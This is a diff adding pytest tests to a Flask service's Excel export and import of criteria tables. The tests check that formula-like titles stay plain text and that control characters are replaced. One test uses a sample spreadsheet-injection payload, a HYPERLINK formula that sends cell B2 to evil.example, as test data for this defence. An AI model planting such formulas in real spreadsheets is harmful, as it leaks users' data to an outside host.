@@ -7,19 +7,23 @@ import copy
 import io
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 from flask.testing import FlaskClient
+from openpyxl import load_workbook
 from sqlalchemy import func, select
 
 from conftest import service_app
 from kit.app import database
 from kit.events.tables import outbox
+from kit.spreadsheets import REPLACEMENT
 from services.criteria.models import CriteriaTable
 from services.criteria.service import SERVICE
 from tests.support.events import assert_valid_event
 from tests.support.stack import Stack
 from tests.support.tokens import ministry_officer, unit_officer
+from tests.support.workbooks import assert_only_text
 
 SAMPLE = json.loads(
     (Path(__file__).resolve().parents[1] / "data" / "sample-criteria-table.json").read_text()
@@ -217,6 +221,53 @@ def test_excel_export_then_import_gives_an_equal_table(client: FlaskClient) -> N
     )
     assert imported.status_code == 201, imported.get_json()
     assert imported.get_json()["document"] == first["document"]
+
+
+def upload(client: FlaskClient, data: bytes) -> Any:
+    return client.post(
+        "/tables/import",
+        headers=OFFICER,
+        data={"year": "2024", "unit_kind": "so-tu-phap", "file": (io.BytesIO(data), "bang.xlsx")},
+        content_type="multipart/form-data",
+    )
+
+
+def test_titles_beginning_like_formulas_export_as_text_and_import_back(
+    client: FlaskClient,
+) -> None:
+    """A title a person typed as =HYPERLINK(…), +1, -1 or @SUM is a string cell in the export
+    (the Ministry's Excel shows it, never runs it) and comes back the same on import."""
+    document = copy.deepcopy(SAMPLE)
+    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+    document["title"] = leak
+    a_i = document["parts"][0]["children"][0]
+    a_i["children"][0]["title"] = "=1+1"
+    a_i["children"][1]["title"] = "-Báo cáo"
+    a_i["children"][2]["title"] = "+Thẩm định"
+    a_i["children"][3]["guidance"] = "@SUM(A1:A9)"
+    first = create(client, document)
+    exported = client.get(f"/tables/{first['id']}/export.xlsx", headers=OFFICER)
+    assert exported.status_code == 200
+    assert_only_text(exported.data, leak, "=1+1", "-Báo cáo", "+Thẩm định", "@SUM(A1:A9)")
+    imported = upload(client, exported.data)
+    assert imported.status_code == 201, imported.get_json()
+    assert imported.get_json()["document"] == first["document"] == document
+
+
+def test_a_table_stored_with_control_characters_still_exports(client: FlaskClient) -> None:
+    """Text stored before input was checked (U+0000, U+000B, U+001F in the JSON document) does
+    not fail the export: it answers 200 and shows U+FFFD in their place."""
+    table = create(client)
+    document = copy.deepcopy(SAMPLE)
+    document["title"] = "Bảng\x00tiêu chí\x0b2024\x1f"
+    document["parts"][0]["title"] = "Phần\x0bA"
+    with client.app_ref.app_context(), database().transaction() as session:  # type: ignore[attr-defined]
+        session.get(CriteriaTable, table["id"]).document = document  # type: ignore[union-attr]
+    exported = client.get(f"/tables/{table['id']}/export.xlsx", headers=OFFICER)
+    assert exported.status_code == 200, exported.get_data(as_text=True)
+    ws = load_workbook(io.BytesIO(exported.data))["Bảng tiêu chí"]
+    assert ws["B1"].value == f"Bảng{REPLACEMENT}tiêu chí{REPLACEMENT}2024{REPLACEMENT}"
+    assert f"Phần{REPLACEMENT}A" in [ws.cell(row, 2).value for row in range(1, ws.max_row + 1)]
 
 
 def test_a_bad_excel_file_is_refused_with_its_errors_and_nothing_saved(
